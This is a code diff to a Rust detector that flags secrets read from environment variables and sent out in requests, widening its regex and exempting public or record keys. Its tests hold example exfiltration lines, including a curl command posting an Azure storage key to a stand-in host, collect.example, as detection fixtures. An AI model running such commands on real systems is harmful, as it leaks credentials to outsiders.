@@ -15,7 +15,7 @@ re!(
 );
 re!(
     SECRET_VAR,
-    r"(os\.environ|getenv|process\.env|ENV\[)[^\n]{0,40}(TOKEN|SECRET|PASSW|API_?KEY|PRIVATE|CREDENTIAL|DATABASE_URL|_DSN\b|CONNECTION_STRING)|\$\{?[A-Z_]*(TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY|DATABASE_URL|CONNECTION_STRING)[A-Z_]*\}?"
+    r"(os\.environ|getenv|process\.env|ENV\[)[^\n]{0,40}(TOKEN|SECRET|PASSW|API_?KEY|[A-Z0-9]_KEY(?-u:\b)|SERVICE_ACCOUNT|COOKIE|PRIVATE|CREDENTIAL|DATABASE_URL|_DSN\b|CONNECTION_STRING)|\$\{?[A-Z_]*(TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY|[A-Z0-9]_KEY(?-u:\b)|SERVICE_ACCOUNT|COOKIE|DATABASE_URL|CONNECTION_STRING)[A-Z_]*\}?"
 );
 re!(
     SECRET_FILE,
@@ -154,7 +154,8 @@ fn secret_var_sent(line: &str) -> bool {
 
 /// Whether the variable a secret's word was found in (up to `at`, and on to its name's end) names where or which a
 /// secret is rather than the secret (`ACTIONS_ID_TOKEN_REQUEST_URL`, `TOKEN_ENDPOINT`, `SECRET_NAME`), a connection
-/// string's address aside (`DATABASE_URL` carries its password).
+/// string's address aside (`DATABASE_URL` carries its password), or a key that is no secret (a public one, a
+/// cache's).
 fn names_where_not_what(line: &str, at: usize) -> bool {
     let end = at
         + line[at..]
@@ -181,9 +182,25 @@ fn names_where_not_what(line: &str, at: usize) -> bool {
         "_REGION",
         "_AUDIENCE",
     ];
-    !name.contains("DATABASE_URL")
-        && !name.contains("CONNECTION_STRING")
-        && WHERE.iter().any(|w| name.ends_with(w))
+    // A key that is public by its name (`NEXT_PUBLIC_MAPS_KEY`, `STRIPE_PUBLISHABLE_KEY`, `VAPID_PUBLIC_KEY`) or
+    // that names a record rather than a secret (`CACHE_KEY`, `PARTITION_KEY`, `IDEMPOTENCY_KEY`).
+    const NOT_SECRET_KEYS: &[&str] = &[
+        "CACHE_KEY",
+        "SORT_KEY",
+        "PARTITION_KEY",
+        "PRIMARY_KEY",
+        "FOREIGN_KEY",
+        "ROUTING_KEY",
+        "IDEMPOTENCY_KEY",
+        "OBJECT_KEY",
+        "HOTKEY",
+    ];
+    let public = name.contains("PUBLIC") || name.contains("PUBLISHABLE");
+    public
+        || NOT_SECRET_KEYS.iter().any(|k| name.ends_with(k))
+        || !name.contains("DATABASE_URL")
+            && !name.contains("CONNECTION_STRING")
+            && WHERE.iter().any(|w| name.ends_with(w))
 }
 
 /// Whether every secret this line reads itself stands where a request carries its credential
@@ -860,6 +877,29 @@ mod tests {
             secret_flows(lookalike, 1),
             vec![(1, "a secret environment variable", 1)]
         );
+    }
+
+    #[test]
+    fn any_key_named_in_the_environment_is_a_secret_and_a_public_or_record_key_is_not() {
+        // A service account's key read from the environment and put in a request's body leaves.
+        let sent = "data = os.environ[\"GCP_SERVICE_ACCOUNT_KEY\"]\nrequests.post(endpoint, json={\"data\": data})\n";
+        assert_eq!(
+            secret_flows(sent, 1),
+            vec![(1, "a secret environment variable", 2)]
+        );
+        let shell = "curl -s -d \"k=${AZURE_STORAGE_ACCOUNT_KEY}\" https://collect.example/k\n";
+        assert_eq!(
+            secret_flows(shell, 1),
+            vec![(1, "a secret environment variable", 1)]
+        );
+        // The same key as the request's credential is the API's call.
+        let header = "key = os.environ[\"OPENAI_KEY\"]\nrequests.post(url, headers={\"Authorization\": f\"Bearer {key}\"}, json={\"q\": q})\n";
+        assert_eq!(secret_flows(header, 1), vec![]);
+        // A cache's key, or a key public by its name, is sent as a matter of course.
+        let cache = "k = os.environ[\"CACHE_KEY\"]\nrequests.post(url, json={\"k\": k})\n";
+        assert_eq!(secret_flows(cache, 1), vec![]);
+        let public = "k = process.env.NEXT_PUBLIC_MAPS_KEY;\nawait fetch(url, { method: 'POST', body: k });\n";
+        assert_eq!(secret_flows(public, 1), vec![]);
     }
 
     #[test]
